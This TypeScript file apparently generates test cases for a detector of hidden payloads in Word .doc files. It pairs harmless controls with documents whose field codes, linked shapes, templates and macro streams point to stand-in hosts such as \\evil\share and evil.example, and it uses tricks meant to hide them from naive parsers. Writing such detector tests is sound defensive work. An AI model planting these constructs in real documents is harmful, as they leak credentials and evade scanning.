import CFB from 'cfb'
import {
  type Choose,
  chooserOf,
  evilInstructions,
  type HiddenDocument,
  marker,
  type Next,
} from './hidden-in-docx.ts'
import { bytesOf, contentTypes, type DocPiece, doc, numbers, relation, relations, zip } from './made-files.ts'

const share = String.raw`\\evil\share\a`
const wide = (text: string) => Buffer.from(text, 'utf16le')
const harmlessText: DocPiece = { text: 'Dienstags zum Chor\r' }

/** Ways to split a text into pieces of one-byte and two-byte characters. */
const cuttings: Readonly<Record<string, (text: string, next: Next) => readonly DocPiece[]>> = {
  'in one piece': (text) => [{ text }],
  'in one wide piece': (text) => [{ text, isWide: true }],
  'letter by letter': (text, next) => Array.from(text, (one) => ({ text: one, isWide: next() < 0.5 })),
  'in two pieces': (text, next) => {
    const at = Math.floor(next() * text.length)
    return [{ text: text.slice(0, at) }, { text: text.slice(at), isWide: next() < 0.5 }]
  },
}
const fieldForms: Readonly<Record<string, (instruction: string) => string>> = {
  plain: (code) => `\x13 ${code} \x14a\x15`,
  'without a result': (code) => `\x13${code}\x15`,
  'without an end': (code) => `\x13${code}\x14`,
  'in the result of a field': (code) => `\x13 PAGE \x14\x13${code}\x14a\x15\x15`,
  'in a field': (code) => `\x13 IF \x13${code}\x14a\x15 \x14a\x15`,
}

/** The associated names of a document (title, author, template and others), each preceded by its length. */
function associations(changed: Readonly<Record<number, string>>): Buffer {
  const names = Array.from({ length: 18 }, (_, at) => changed[at] ?? (at === 1 ? 'Normal.dot' : ''))
  return Buffer.concat([
    numbers(2, 0xffff, names.length, 0),
    ...names.flatMap((name) => [numbers(2, name.length), wide(name)]),
  ])
}

type Property = { readonly kind: number; readonly value: number | Buffer }

/** A record with a shape's properties; values that do not fit into a property follow at the end. */
function shape(properties: readonly Property[], kind = 0xf00b): Buffer {
  const heads = properties.map(({ kind: name, value }) =>
    typeof value === 'number'
      ? Buffer.concat([numbers(2, name), numbers(4, value)])
      : Buffer.concat([numbers(2, name | 0x8000), numbers(4, value.length)]),
  )
  const tails = properties.flatMap(({ value }) => (typeof value === 'number' ? [] : [value]))
  const body = Buffer.concat([...heads, ...tails])
  return Buffer.concat([numbers(2, (properties.length << 4) | 3, kind), numbers(4, body.length), body])
}

function drawingPackage(target: string): Buffer {
  return zip([
    { name: '[Content_Types].xml', content: contentTypes() },
    { name: '_rels/.rels', content: relations(relation('shapeXml', 'drs/shapexml.xml')) },
    { name: 'drs/shapexml.xml', content: '<a/>' },
    {
      name: 'drs/_rels/shapexml.xml.rels',
      content: relations(relation('image', target, 'TargetMode="External"')),
    },
  ])
}

const linkedShapes: Readonly<Record<string, (next: Next) => Buffer>> = {
  'a picture': () =>
    shape([
      { kind: 0x0105, value: wide(share) },
      { kind: 0x0106, value: 0x0a },
    ]),
  'a picture that was not kept': () =>
    shape(
      [
        { kind: 0x0106, value: 0x0d },
        { kind: 0x0105, value: wide('https://evil.example/a.png') },
      ],
      0xf122,
    ),
  'a filling': () =>
    shape(
      [
        { kind: 0x0187, value: wide(share) },
        { kind: 0x0188, value: 0x09 },
      ],
      0xf121,
    ),
  'a line': () =>
    shape([
      { kind: 0x01c7, value: wide(share) },
      { kind: 0x01c8, value: 0x0e },
    ]),
  'a package of drawings': () =>
    shape([
      { kind: 0x0080, value: wide('Chor') },
      { kind: 0x03a9, value: drawingPackage('https://evil.example/a') },
    ]),
  'a picture in another file': () =>
    Buffer.concat([numbers(4, 90), numbers(2, 0x44, 0x66), Buffer.alloc(60), bytesOf(`\x0f${share}`)]),
}

/** Marks a container entry as having neither position nor length, which parsers ignore for folders. */
function withoutPlace(file: Buffer, name: string): Buffer {
  const changed = Buffer.from(file)
  const at = changed.indexOf(Buffer.concat([wide(name), Buffer.alloc(2)]))
  changed.fill(0xff, at + 116, at + 124)
  return changed
}

/**
 * A document stream that Word finds under a differently capitalised name, and a harmless decoy of equal length in a
 * folder.
 */
function withDecoy(code: string): Buffer {
  const text = `\x13 ${code} \x14a\x15`
  const streamOf = (file: Buffer, name: string) => CFB.find(CFB.read(file, { type: 'buffer' }), name)?.content
  const [read, shown] = [doc([{ text }]), doc([{ text: 'a'.repeat(text.length) }])]
  const container = CFB.utils.cfb_new()
  CFB.utils.cfb_add(container, '/WORDDOCUMENT', streamOf(read, 'WordDocument'))
  CFB.utils.cfb_add(container, '/1Table', streamOf(read, '1Table'))
  CFB.utils.cfb_add(container, '/Chor/WordDocument', streamOf(shown, 'WordDocument'))
  const bytes: Uint8Array = CFB.write(container, { type: 'buffer' })
  return Buffer.from(bytes)
}

const carried: Readonly<Record<string, (code: string, choose: Choose) => Buffer>> = {
  macros: (_, choose) =>
    doc(undefined, { [`${choose(['Macros', 'macros', 'MACROS'])}/VBA/dir`]: bytesOf(marker) }),
  'macros without a place': () => {
    const file = doc(undefined, { 'Macros/VBA/dir': bytesOf(marker), 'Macros/PROJECT': bytesOf(marker) })
    return ['Macros', 'VBA', 'dir', 'PROJECT'].reduce(withoutPlace, file)
  },
  'objects without a place': () =>
    withoutPlace(doc(undefined, { 'ObjectPool/_1/a': bytesOf(marker) }), 'ObjectPool'),
  'objects of other programs': () => doc(undefined, { 'ObjectPool/_1/a': bytesOf(marker) }),
  'a stream of nobody': () => doc(undefined, { 'Chor/a': bytesOf(marker) }),
  'what the properties say': () => doc(undefined, { '\x05SummaryInformation': bytesOf(marker) }),
  'bytes behind the container': () => Buffer.concat([doc(), bytesOf(`MZ ${marker}`)]),
  'a document under a name with other capitals': (code) => withDecoy(code),
  'a template': () => doc(undefined, {}, { parts: { 32: associations({ 1: `${share}.dot` }) } }),
  'a template of a page': () =>
    doc(undefined, {}, { parts: { 32: associations({ 1: 'https://evil.example/a.dot' }) } }),
  'a list of addressees': () => doc(undefined, {}, { parts: { 32: associations({ 8: 'evil' }) } }),
  'the heads of addressees': () => doc(undefined, {}, { parts: { 32: associations({ 9: share }) } }),
  'names in narrow letters': () =>
    doc(undefined, {}, { parts: { 32: Buffer.concat([numbers(2, 2), bytesOf('\0\x0b\\\\evil\\a.dot')]) } }),
  'the state of a merge': () => doc(undefined, {}, { parts: { 44: bytesOf(share) } }),
  'other documents': () => doc(undefined, {}, { parts: { 54: bytesOf(share) } }),
  'a second document': (code) => {
    const words = `\x13 ${code} \x14a\x15`
    return withNumber(doc([harmlessText, { text: words }]), 8, 2, words)
  },
  'a head of another length': (code) => {
    const words = `\x13 ${code} \x14a\x15`
    return withNumber(doc([harmlessText, { text: words }]), 32, 16, words)
  },
}

/** Writes a number into the document's header so that a field is invisible to naive parsers. */
function withNumber(file: Buffer, at: number, value: number, words: string): Buffer {
  const changed = Buffer.from(file)
  changed.writeUInt16LE(value, changed.indexOf(numbers(2, 0xa5ec, 0xc1)) + at)
  const field = changed.indexOf(bytesOf(words))
  changed[field] = 0x20
  changed[field + words.indexOf('\x14')] = 0x20
  changed[field + words.indexOf('\x15')] = 0x20
  return changed
}

/** A doc with a randomly hidden payload. */
export function hiddenDoc(next: Next): HiddenDocument {
  const choose = chooserOf(next)
  const instruction = choose(evilInstructions).replaceAll('\\\\', '\\')
  const kind = next()
  if (kind < 0.4) {
    const [form, cutting] = [choose(Object.keys(fieldForms)), choose(Object.keys(cuttings))]
    const code = next() < 0.3 ? instruction.toLowerCase() : instruction
    const pieces = cuttings[cutting]?.(fieldForms[form]?.(code) ?? '', next) ?? []
    return {
      how: `field, ${form}, ${cutting}, ${code}`,
      bytes: doc(next() < 0.5 ? pieces : [harmlessText, ...pieces, harmlessText]),
    }
  }
  if (kind < 0.7) {
    const [what, where] = [choose(Object.keys(linkedShapes)), choose(['Data', 'the table'])]
    const around = Buffer.alloc(Math.floor(next() * 90), 7)
    const drawing = Buffer.concat([around, linkedShapes[what]?.(next) ?? around, around])
    return {
      how: `drawing, ${what}, ${where}`,
      bytes:
        where === 'Data' ? doc(undefined, { Data: drawing }) : doc(undefined, {}, { parts: { 50: drawing } }),
    }
  }
  const what = choose(Object.keys(carried))
  return { how: `carried, ${what}`, bytes: carried[what]?.(instruction, choose) ?? Buffer.alloc(0) }
}

const harmlessInstructions = [' PAGE ', ' TOC \\o "1-3" \\h ', ' HYPERLINK "https://example.org/a" \\l "b" ']

/** A harmless doc in the same random variations. */
export function harmlessDoc(next: Next): HiddenDocument {
  const choose = chooserOf(next)
  const forms = ['plain', 'without a result', 'in the result of a field']
  const [form, cutting] = [choose(forms), choose(Object.keys(cuttings))]
  const code = choose(harmlessInstructions)
  const picture = shape([
    { kind: 0x0104, value: 1 },
    { kind: 0x0105, value: wide('C:\\Bilder\\Chor.png') },
    { kind: 0x0106, value: 0 },
  ])
  return {
    how: `${form}, ${cutting}, ${code}`,
    bytes: doc(
      [harmlessText, ...(cuttings[cutting]?.(fieldForms[form]?.(code) ?? '', next) ?? [])],
      { Data: picture, '\x05SummaryInformation': bytesOf('Chor') },
      { parts: { 32: associations({ 2: 'Chor' }), 50: picture } },
    ),
  }
}
